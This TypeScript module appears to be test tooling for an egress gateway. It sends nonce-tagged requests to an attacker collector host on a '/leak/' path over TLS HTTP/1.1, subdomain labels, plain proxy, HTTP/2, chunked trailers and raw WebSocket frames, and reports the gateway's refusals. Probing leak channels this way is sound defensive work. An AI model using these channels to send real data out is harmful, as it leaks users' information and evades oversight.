import { randomBytes } from 'node:crypto';
import { request, type ClientRequest, type IncomingMessage, type RequestOptions } from 'node:http';
import { connect as connectHttp2 } from 'node:http2';
import type { Duplex } from 'node:stream';
import { text } from 'node:stream/consumers';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import type { Targets } from '../../arena/targets.ts';
import { proxy, tunnel } from '../../guest/wire.ts';

/** Ways to an allowed host of an attacker. Each throws the refusal's text. */

const MOST_SHOWN = 300;

interface Secure {
  readonly host: string;
  readonly tls: TLSSocket;
}

/** Opens a TLS connection that the gateway opens too; with a label, to a name below the host's. */
async function secure(
  t: Targets,
  { label, protocol = 'http/1.1' }: { label?: string | undefined; protocol?: 'http/1.1' | 'h2' } = {},
): Promise<Secure> {
  const name = label === undefined ? t.names.looked : `${label}.${t.names.looked}`;
  const host = `${name}:${t.collectorPort}`;
  const { socket, answer } = await tunnel(host);
  if (!/ 2\d\d( |$)/.test(answer)) throw new Error(answer === '' ? 'connection closed' : answer);
  const tls = connectTls({ socket, servername: name, ALPNProtocols: [protocol], rejectUnauthorized: false });
  tls.on('error', () => undefined); // the request reports the error
  return { host, tls };
}

const pathOf = (nonce: string, rest = ''): string => `/leak/${nonce}${rest}`;

type Headers = Readonly<Record<string, string>>;

/** The data to write after the headers. */
interface Written {
  readonly body?: string | Buffer;
  /** Each is sent as a separate chunk. */
  readonly pieces?: readonly string[];
  readonly trailers?: Headers;
}

/** `rest`: the part of the path after the nonce. */
export interface PlainOrder extends Written {
  readonly rest?: string;
  readonly method?: string;
  readonly headers?: Headers;
}

export interface Order extends PlainOrder {
  /** A label in front of the host's name. */
  readonly label?: string;
}

/** Writes the data: at once, or in pieces. */
async function write(outgoing: ClientRequest, { body, pieces = [], trailers }: Written): Promise<void> {
  for (const piece of pieces) {
    outgoing.write(piece);
    await new Promise((resolve) => setImmediate(resolve));
  }
  if (trailers !== undefined) outgoing.addTrailers(trailers);
  outgoing.end(body);
}

async function exchange(options: RequestOptions, order: Written): Promise<void> {
  const response = await new Promise<IncomingMessage>((resolve, reject) => {
    const outgoing = request(options, resolve).on('error', reject);
    void write(outgoing, order);
  });
  const said = await text(response);
  const { statusCode = 0, statusMessage = '' } = response;
  if (statusCode >= 300) throw new Error(`${statusCode} ${statusMessage} ${said.slice(0, MOST_SHOWN)}`);
}

/** Sends an HTTP/1.1 request over TLS. @throws Error with the refusal's text */
export async function ask(
  t: Targets,
  nonce: string,
  { rest, method = 'GET', headers = {}, label, ...order }: Order,
): Promise<void> {
  const { host, tls } = await secure(t, { label });
  const head = { host, connection: 'close', ...headers };
  await exchange({ method, path: pathOf(nonce, rest), headers: head, createConnection: () => tls }, order);
}

/** Sends the request unencrypted through the proxy. @throws as `ask` */
export async function askPlainly(
  t: Targets,
  nonce: string,
  { rest, method = 'GET', headers = {}, ...order }: PlainOrder,
): Promise<void> {
  const host = `${t.names.looked}:${t.collectorPlainPort}`;
  const head = { host, connection: 'close', ...headers };
  await exchange({ ...proxy(), method, path: `http://${host}${pathOf(nonce, rest)}`, headers: head }, order);
}

/** Sends requests in sequence on one connection. @throws as `ask` */
export async function askEach(t: Targets, nonce: string, rests: readonly string[]): Promise<void> {
  const { host, tls } = await secure(t);
  for (const rest of rests) {
    const headers = { host, connection: 'keep-alive' };
    await exchange({ path: pathOf(nonce, rest), headers, createConnection: () => tls }, {});
  }
}

/** Sends a request by HTTP/2. @throws as `ask` */
export async function askHttp2(
  t: Targets,
  nonce: string,
  { headers = {}, body }: Pick<Order, 'headers' | 'body'>,
): Promise<void> {
  const { host, tls } = await secure(t, { protocol: 'h2' });
  const session = connectHttp2(`https://${host}`, { createConnection: () => tls });
  const failed = new Promise<never>((_resolve, reject) => session.on('error', reject).on('close', reject));
  failed.catch(() => undefined);
  const method = body === undefined ? 'GET' : 'POST';
  const stream = session.request({ ':method': method, ':path': pathOf(nonce), ...headers });
  const status = new Promise<number>((resolve, reject) => {
    stream.on('response', (head) => resolve(head[':status'] ?? 0));
    stream.on('error', reject).on('close', () => reject(new Error('the stream was closed')));
  });
  stream.end(body);
  try {
    const code = await Promise.race([status, failed]);
    if (code >= 300) throw new Error(`${code} by HTTP/2`);
  } finally {
    session.destroy();
  }
}

const TEXT = 1;
const FINAL = 0x80;
const MASKED = 0x80;

/** Returns a client's WebSocket frames (RFC 6455, 5.2), of less than 126 bytes each. */
function frames(parts: readonly string[]): Buffer[] {
  const key = randomBytes(4);
  return parts.map((part, at) => {
    const payload = Buffer.from(part).map((byte, index) => byte ^ (key[index % 4] ?? 0));
    const first = (at === 0 ? TEXT : 0) | (at === parts.length - 1 ? FINAL : 0);
    return Buffer.concat([Buffer.from([first, MASKED | payload.length]), key, payload]);
  });
}

/** Sends a WebSocket message, in one frame or several. @throws as `ask` */
export async function message(t: Targets, nonce: string, parts: readonly string[]): Promise<void> {
  const { host, tls } = await secure(t);
  const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' };
  const headers = { host, ...upgrade, 'sec-websocket-key': randomBytes(16).toString('base64') };
  const { socket, head } = await new Promise<{ socket: Duplex; head: Buffer }>((resolve, reject) => {
    const outgoing = request({ path: pathOf(nonce), headers, createConnection: () => tls });
    outgoing.on('upgrade', (_response, socket, head) => resolve({ socket, head }));
    outgoing.on('response', ({ statusCode }) => reject(new Error(`${statusCode} to the upgrade`)));
    outgoing.on('error', reject).end();
  });
  const answered = new Promise<Buffer>((resolve, reject) => {
    if (head.length > 0) resolve(head);
    socket.on('data', resolve).on('error', reject);
    socket.on('close', () => reject(new Error('the WebSocket was closed')));
  });
  for (const frame of frames(parts)) socket.write(frame);
  const answer = await answered;
  socket.destroy();
  if (((answer[0] ?? 0) & 15) !== TEXT) {
    throw new Error(`the WebSocket was closed: ${answer.subarray(4).toString()}`);
  }
}
